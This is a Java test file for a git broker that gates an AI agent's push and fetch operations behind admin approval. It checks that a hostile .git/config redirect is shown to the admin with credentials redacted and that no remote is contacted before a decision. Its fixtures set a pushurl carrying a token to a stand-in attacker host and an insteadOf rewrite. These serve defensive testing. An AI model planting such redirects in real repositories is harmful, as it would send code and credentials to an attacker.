package dev.lomicontrol.broker;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.lomicontrol.core.OperationId;
import dev.lomicontrol.decisions.PendingDecision;
import dev.lomicontrol.testing.SilentRemote;
import java.nio.file.Files;
import java.time.Duration;
import org.eclipse.jgit.lib.StoredConfig;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * N7 (security review 2026-12-06): a hostile repository's {@code .git/config} sends a push elsewhere
 * with {@code remote.origin.pushurl} or {@code url.<base>.insteadOf}. The admin used to approve
 * "push … to origin"; now the pending decision names the URL the push really goes to (credentials
 * redacted), and nothing contacts the remote before the admin decides.
 */
class AttackGitRemoteTests extends GitBrokerTest {

    @Override
    String shared() {
        return "one\n";
    }

    @Override
    void beforeConnect() throws Exception {
        Files.writeString(project.root().resolve("mine.txt"), "mine\n");
        mine.add().addFilepattern("mine.txt").call();
        mine.commit().setMessage("mine").call();
    }

    @Test
    void aPushurlWithCredentialsIsShownToTheAdminRedactedAndNeverToTheAgent() throws Exception {
        config("remote", "origin", "pushurl", "https://builder:s3cret-token@attacker.example/loot.git");

        PendingDecision decision = parked(push());

        assertThat(decision.summary())
                .contains("to origin (https://***@attacker.example/loot.git)")
                .doesNotContain("s3cret-token")
                .doesNotContain("builder");
        assertThat(decision.plan())
                .contains("\"remoteUrl\":\"https://***@attacker.example/loot.git\"")
                .doesNotContain("s3cret-token");
    }

    @Test
    void anInsteadOfRewriteIsShownToTheAdminForAPushAndAFetch() throws Exception {
        config("url", "https://attacker.example/", "insteadOf", remote.uri());

        assertThat(parked(push()).summary())
                .contains("to origin (https://attacker.example/)")
                .doesNotContain(remote.bare().toString());
        ObjectNode fetch = mutation("fetch");
        fetch.put("remote", "origin").put("reference", "refs/heads/main");
        assertThat(parked(fetch).summary()).contains("from origin (https://attacker.example/)");
    }

    @Test
    void nothingContactsTheRemoteBeforeTheAdminDecides() throws Exception {
        try (SilentRemote silent = new SilentRemote()) {
            config("remote", "origin", "url", silent.httpUrl());

            // the old planner read the remote branch with lsRemote here, before approval and without a
            // timeout: against this server it never returned
            PendingDecision decision = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> parked(push()));

            assertThat(decision.summary()).contains(silent.httpUrl());
            assertThat(silent.connections())
                    .as("planning and parking the push never reached the remote")
                    .isZero();
            broker.decisions.decide(decision.operationId(), false);
            assertThat(silent.connections()).as("a rejected plan never runs").isZero();
        }
    }

    /** Submits a mutation that must wait for the admin; answers its pending decision and checks the agent's answer. */
    private PendingDecision parked(ObjectNode request) {
        JsonNode parked = broker.ok(session, "lomi_git_mutate", request.toString());
        assertThat(parked.path("state").asString()).as("%s", parked).isEqualTo("awaiting_user");
        assertThat(parked.toString()).as("the agent never sees the URL").doesNotContain("attacker.example");
        OperationId id = new OperationId(parked.path("operationId").asString());
        return broker.decisions.list().stream()
                .filter(d -> d.operationId().equals(id))
                .findFirst()
                .orElseThrow();
    }

    private ObjectNode push() throws Exception {
        ObjectNode push = mutation("push");
        push.put("remote", "origin")
                .put("reference", "refs/heads/main")
                .put("sourceCommit", mine.getRepository().resolve("HEAD").name())
                .put(
                        "expectedRemoteCommit",
                        mine.getRepository().resolve("HEAD~1").name());
        return push;
    }

    private ObjectNode mutation(String operation) {
        ObjectNode node = mutateRequest(operation, "n7-");
        node.putArray("paths");
        return node;
    }

    private void config(String section, String subsection, String name, String value) throws Exception {
        StoredConfig config = mine.getRepository().getConfig();
        config.setString(section, subsection, name, value);
        config.save();
    }
}
